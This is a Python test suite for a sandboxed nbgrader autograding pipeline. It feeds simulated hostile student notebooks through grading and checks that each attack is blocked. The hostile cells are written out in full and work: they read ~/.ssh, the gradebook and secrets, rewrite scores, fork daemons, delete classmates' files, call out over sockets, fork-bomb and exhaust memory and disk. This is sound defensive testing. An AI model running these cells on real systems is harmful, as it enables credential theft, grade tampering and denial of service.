"""Hostile students through the real nbgrader pipeline, every kernel in the sandbox.

One ``autograde`` of 01_xor for a whole class, then ``generate_feedback``: two honest students
(the full solution, and one planted bug) and hostile ones, each the full solution plus one
hostile cell at the end. The hostile cells try what a student's code could do to a grader: read
``source/``, the gradebook and the grader's home and print them into the feedback; change the
gradebook; start a daemon that outlives grading; delete or blank classmates' work; connect to
the grader on 127.0.0.1; allocate 30 GB; start 2000 processes; loop forever in one cell and
across many; write a huge file. Each prints what it tried and what happened.
"""

import hashlib
import html
import json
import re
import socket
import sqlite3
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest
from sandboxing import needs_sandbox

from mlp_helpers import grading

pytestmark = [pytest.mark.slow, needs_sandbox]
REPO = Path(__file__).resolve().parents[1]
ASSIGNMENT = "01_xor"
SOURCE = REPO / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
SOLUTIONS = grading.solutions(SOURCE)
# Seconds: a cell, a whole notebook (an honest one takes about 3), the daemon's wait.
CELL_TIMEOUT, NOTEBOOK_TIMEOUT, DAEMON_DELAY = 5, 15, 4
TOKEN = f"hostile-{uuid.uuid4().hex}"  # in every hostile process we can find, never in output
HONEST = ("ada_full", "bob_planted_bug")  # sorted before the hostile ones: graded first

# The start of every hostile cell: what the student is assumed to know (the real paths).
PREAMBLE = """import os, pathlib, sys, time
COURSE, REPO, HOME = pathlib.Path({course!r}), pathlib.Path({repo!r}), pathlib.Path({home!r})
TOKEN, PORT, CLASSMATES, DAEMON_DELAY = {token!r}, {port!r}, {classmates!r}, {delay!r}
"""

HOSTILE = {
    "reads_secrets": """
places = [COURSE, REPO, HOME, pathlib.Path("~").expanduser(), *pathlib.Path.cwd().parents]
for place in places:
    for name in ["source", "gradebook.db", ".exchange", "submitted", "nbgrader_config.py",
                 "grader-secret.txt", ".ssh"]:
        path = place / name
        try:
            files = sorted(path.rglob("*")) if path.is_dir() else [path]
            for file in files:
                if file.is_file():
                    print("FOUND", file, file.read_bytes()[:20000].decode("latin-1"))
            if not path.exists():
                print("BLOCKED", path, "not there")
        except OSError as error:
            print("BLOCKED", path, error.strerror)
print("ENVIRONMENT", sorted(os.environ.items()))
print("TRIED", len(places), "places")
""",
    "edits_gradebook": """
import sqlite3
for path in [COURSE / "gradebook.db", REPO / "gradebook.db",
             *[folder / "gradebook.db" for folder in pathlib.Path.cwd().parents]]:
    if not path.is_file():
        print("BLOCKED", path, "not there")
        continue
    try:
        with sqlite3.connect(path) as gradebook:
            gradebook.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
        print("WROTE", path)
        path.write_bytes(b"blanked")
    except Exception as error:
        print("BLOCKED", path, error)
print("TRIED the gradebook")
""",
    "spawns_daemon": """
import subprocess
DAEMON = f'''
import pathlib, time
time.sleep({DAEMON_DELAY})
for path in [pathlib.Path({str(COURSE)!r}) / "daemon-{TOKEN}",
             pathlib.Path.cwd() / "daemon-{TOKEN}",
             *[pathlib.Path({str(COURSE)!r}) / "submitted" / name / "01_xor" / "01_xor.ipynb"
               for name in {CLASSMATES!r}]]:
    try:
        path.write_text("the daemon outlived grading")
    except OSError:
        pass
'''
child = os.fork()
if child == 0:  # a double fork, a new session, nohup: the classic daemon
    os.setsid()
    if os.fork() == 0:
        os.execve("/usr/bin/nohup", ["nohup", sys.executable, "-c", DAEMON],
                  {**os.environ, "HOSTILE_TOKEN": TOKEN})
    os._exit(0)
os.waitpid(child, 0)
subprocess.Popen([sys.executable, "-c", DAEMON], start_new_session=True,
                 env={**os.environ, "HOSTILE_TOKEN": TOKEN})
print("STARTED daemons at", time.time())
""",
    "vandal": """
import shutil
for name in CLASSMATES:
    for folder in ["submitted", "autograded", "feedback"]:
        path = COURSE / folder / name / "01_xor" / "01_xor.ipynb"
        for attack in (lambda: path.write_text("{}"), path.unlink,
                       lambda: shutil.rmtree(path.parent.parent)):
            try:
                attack()
                print("WROTE", path)
            except OSError as error:
                print("BLOCKED", path, error.strerror)
print("TRIED the classmates")
""",
    "phones_home": """
import socket
for address in [("127.0.0.1", PORT), ("localhost", PORT), ("10.0.2.2", 80), ("1.1.1.1", 53)]:
    try:
        socket.create_connection(address, timeout=3).sendall(TOKEN.encode())
        print("CONNECTED", address)
    except OSError as error:
        print("BLOCKED", address, error.strerror or error)
print("TRIED the network")
""",
    "hogs_memory": """
import numpy as np
try:
    block = np.ones(30 * 10**9 // 8)
    print("ALLOCATED", block.nbytes)
except MemoryError as error:
    print("BLOCKED 30 GB at once:", error)
held = []
try:
    while len(held) < 120:  # 30 GB in steps of 256 MB (reserved: what the limit counts)
        held.append(np.empty(2**25))
except MemoryError:
    pass
print("HELD", len(held) * 2**28, "bytes in steps")
del held
""",
    "fork_bomb": """
started = 0
for _ in range(2000):
    try:
        pid = os.fork()
    except OSError as error:
        print("BLOCKED fork:", error.strerror)
        break
    if pid == 0:
        try:
            os.execve("/usr/bin/sleep", ["sleep", "60"], {"HOSTILE_TOKEN": TOKEN})
        finally:
            os._exit(0)
    started += 1
print("STARTED", started, "processes")
""",
    "huge_file": """
chunk = b"x" * 2**20
for path, count in [(pathlib.Path("huge.bin"), 2048)] + [
        (pathlib.Path("/tmp") / f"fill{index}.bin", 48) for index in range(10)]:
    try:
        with open(path, "wb") as file:
            for _ in range(count):
                file.write(chunk)
        print("WROTE", path, count, "MiB")
    except OSError as error:
        print("BLOCKED", path, "at", path.stat().st_size // 2**20, "MiB:", error.strerror)
for folder in ["/", "/dev", "/dev/shm", "/etc", str(COURSE)]:  # memory, or the course's disk
    try:
        (pathlib.Path(folder) / "fill.bin").write_bytes(chunk)
        print("WROTE", folder)
    except OSError as error:
        print("BLOCKED", folder, error.strerror)
""",
}
# A cell that never ends and ignores the interrupt at the cell's limit (its kernel is stopped
# and restarted), then cells that each stay under that limit, until the notebook's. (A loop that
# the interrupt stops is test_pipeline's `infinite_loop` student.)
LOOPS = ["while True:\n    try:\n        time.sleep(1)\n    except KeyboardInterrupt:\n"
         "        print('interrupted, going on')\n",
         *[f"time.sleep({CELL_TIMEOUT - 2})\n"] * 10]
STUDENTS = (*HONEST, *HOSTILE, "loops_forever")


def planted_bug():
    code = SOLUTIONS["hidden_delta"]
    assert "* a * (1 - a)" in code
    return {"hidden_delta": code.replace("* a * (1 - a)", "* (1 - a)")}


def notebook_for(student, released, context):
    answers = {**SOLUTIONS, **(planted_bug() if student == "bob_planted_bug" else {})}
    # The written answer stays the student's own: the model answer is a secret of source/.
    answers["explain_loss_not_gradient"] = "My own words."
    notebook = grading.fill_in(released, answers)
    if student in HOSTILE:
        notebook.cells.append(nbformat.v4.new_code_cell(PREAMBLE.format(**context)
                                                        + HOSTILE[student]))
    if student == "loops_forever":
        notebook.cells += [nbformat.v4.new_code_cell(PREAMBLE.format(**context) + source)
                           for source in LOOPS]
    return notebook


class Listener:
    """A TCP server on 127.0.0.1 that records every connection it accepts."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port, self.accepted, self.running = self.server.getsockname()[1], [], True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                self.accepted.append(self.server.accept()[1])
            except TimeoutError:
                pass

    def close(self):
        self.running = False
        self.thread.join()
        self.server.close()


def digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


def processes_with(token):
    """Pids of every process on the machine whose command line or environment holds ``token``."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and token.encode() in (
                    (entry / "cmdline").read_bytes() + (entry / "environ").read_bytes()):
                found.append(int(entry.name))
        except OSError:  # gone meanwhile, or not ours to read
            pass
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    home = root / "grader-home"
    home.mkdir()
    secret = f"secret-{uuid.uuid4().hex}"  # never in a hostile cell: found only by reading it
    (home / "grader-secret.txt").write_text(f"home {secret}")
    course = grading.make_course(root / "course", [ASSIGNMENT], timeout=CELL_TIMEOUT, settings={
        "KernelRestartingExecute.notebook_timeout": NOTEBOOK_TIMEOUT})
    (course / "source" / "canary.txt").write_text(f"source {secret}")
    listener = Listener()
    context = {"course": str(course), "repo": str(REPO), "home": str(home), "token": TOKEN,
               "port": listener.port, "classmates": list(HONEST), "delay": DAEMON_DELAY}
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("HOME", str(home))  # the grader's home, for the graders started here
            patch.setenv("GRADER_API_TOKEN", f"token {secret}")
            steps = grading.pipeline(course, ASSIGNMENT, grading.STEPS[:1])
            released = course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
            for student in STUDENTS:
                grading.submit(course, ASSIGNMENT, student, notebook_for(student, released,
                                                                        context))
            submitted = {student: digest(course / "submitted" / student / ASSIGNMENT /
                                         f"{ASSIGNMENT}.ipynb") for student in STUDENTS}
            with sqlite3.connect(course / "gradebook.db") as gradebook:
                rows_before = gradebook.execute("SELECT COUNT(*) FROM grade").fetchone()
            started = time.monotonic()
            steps.update(grading.pipeline(course, ASSIGNMENT, grading.STEPS[1:]))
            seconds = time.monotonic() - started
    finally:
        listener.close()
    return {"course": course, "home": home, "secret": secret, "steps": steps,
            "seconds": seconds, "submitted": submitted, "rows_before": rows_before,
            "connections": listener.accepted, "scores": grading.scores(course, ASSIGNMENT)}


def graded_cells(graded, student):
    path = graded["course"] / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    return nbformat.read(path, as_version=4).cells


def outputs(graded, student):
    """Everything the student's cells output when graded, as one text."""
    return "\n".join(json.dumps(cell.get("outputs", []), ensure_ascii=False)
                     for cell in graded_cells(graded, student))


def hostile_output(graded, student):
    """What the hostile (last) cell printed."""
    return "".join(output.get("text", "") for output in graded_cells(graded, student)[-1].outputs)


def lines_of(path):
    return {line.strip() for cell in nbformat.read(path, as_version=4).cells
            for line in cell.source.splitlines()}


def feedback(graded, student):
    return html.unescape(grading.feedback_html(graded["course"], ASSIGNMENT, student))


def test_every_student_is_graded_and_given_feedback(graded):
    assert all(step["success"] for step in graded["steps"].values()), graded["steps"]
    assert set(graded["scores"]) == set(STUDENTS)
    for student in STUDENTS:
        assert "01_xor" in feedback(graded, student)


def test_honest_students_get_exactly_their_scores(graded):
    maximum = grading.max_scores(SOURCE)
    full = {cell: (points if cell.startswith("test_") else None)
            for cell, points in maximum.items()}
    assert graded["scores"]["ada_full"] == full
    assert graded["scores"]["bob_planted_bug"] == {**full, "test_hidden_delta": 0.0}
    assert "You used 1 - a as the derivative" in feedback(graded, "bob_planted_bug")


def test_no_hostile_student_gains_a_point(graded):
    honest = graded["scores"]["ada_full"]
    for student in (*HOSTILE, "loops_forever"):
        scores = graded["scores"][student]
        assert set(scores) == set(honest)
        assert all((scores[cell] or 0) <= (honest[cell] or 0) for cell in honest), student
    with sqlite3.connect(graded["course"] / "gradebook.db") as gradebook:
        assert gradebook.execute("SELECT COUNT(*) FROM grade").fetchone()[0] > \
            graded["rows_before"][0]
        assert gradebook.execute("SELECT MAX(manual_score), MAX(extra_credit) FROM grade"
                                 ).fetchone() == (None, None)


def test_classmates_files_are_untouched(graded):
    course = graded["course"]
    for student in STUDENTS:
        path = course / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        assert digest(path) == graded["submitted"][student], student
    for student in HONEST:
        graded_copy = course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        assert len(nbformat.read(graded_copy, as_version=4).cells) > 10
    lines = hostile_output(graded, "vandal")
    assert "WROTE" not in lines
    assert lines.count("BLOCKED") == 18


def test_no_secret_reaches_any_output_or_feedback(graded):
    # Lines of source/ that no student has (hidden tests, the model answer), and the secret in
    # the grader's home, its environment and source/canary.txt.
    course = graded["course"]
    known = lines_of(course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").union(*[
        lines_of(course / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
        for student in STUDENTS])
    secrets = {line for line in lines_of(SOURCE) if len(line) >= 24} - known
    assert len(secrets) > 5
    secrets.add(graded["secret"])
    for student in STUDENTS:
        seen = feedback(graded, student) + outputs(graded, student)
        assert not [secret for secret in secrets if secret in seen], student
    lines = hostile_output(graded, "reads_secrets")
    assert "FOUND" not in lines
    assert "TRIED" in lines
    assert "BLOCKED" in lines


def test_no_process_outlives_grading(graded):
    started = float(re.search(r"STARTED daemons at ([\d.]+)",
                              hostile_output(graded, "spawns_daemon"))[1])
    time.sleep(max(0.0, started + DAEMON_DELAY + 1.5 - time.time()))
    assert processes_with(TOKEN) == []
    markers = [path for folder in (graded["course"], graded["home"])
               for path in folder.rglob("daemon-*")]
    assert markers == []


def test_no_connection_reaches_the_grader(graded):
    assert graded["connections"] == []
    lines = hostile_output(graded, "phones_home")
    assert "CONNECTED" not in lines
    assert lines.count("BLOCKED") == 4


def test_memory_files_and_processes_stay_within_the_limits(graded):
    assert "BLOCKED 30 GB at once" in hostile_output(graded, "hogs_memory")
    held = int(re.search(r"HELD (\d+) bytes", hostile_output(graded, "hogs_memory"))[1])
    assert held < 3 * 2**30
    started = int(re.search(r"STARTED (\d+) processes", hostile_output(graded, "fork_bomb"))[1])
    assert 10 < started < 128
    lines = hostile_output(graded, "huge_file")
    assert "File too large" in lines
    assert "No space left on device" in lines
    assert lines.count("Read-only file system") == 4
    # The course's folder is not there; in a test it is under /tmp, the kernel's own /tmp.
    assert f"BLOCKED {graded['course']} " in lines
    assert not (graded["course"] / "fill.bin").exists()
    assert "BLOCKED huge.bin at 64 MiB: File too large" in lines
    # Written in the kernel's own folder, in its memory: gone with it, never in nbgrader's.
    assert sorted(path.name for path in (graded["course"] / "autograded" / "huge_file" /
                                         ASSIGNMENT).iterdir()) == [f"{ASSIGNMENT}.ipynb",
                                                                    "timestamp.txt"]


def test_endless_loops_cost_their_student_at_most_the_notebook_limit(graded):
    # From the autograded notebook of the student graded before to theirs: all their grading,
    # kernel starts and nbgrader's own work included.
    written = {student: (graded["course"] / "autograded" / student / ASSIGNMENT /
                         f"{ASSIGNMENT}.ipynb").stat().st_mtime for student in STUDENTS}
    before = max(time for student, time in written.items() if student < "loops_forever")
    assert written["loops_forever"] - before < NOTEBOOK_TIMEOUT + 8
    text = outputs(graded, "loops_forever")
    assert "KernelStopped" in text
    # The time runs out in a cell (it is stopped) or between two: the cells after are not run.
    assert "not run: grading this notebook took longer" in text
    assert "NotebookTimeout" in feedback(graded, "loops_forever")
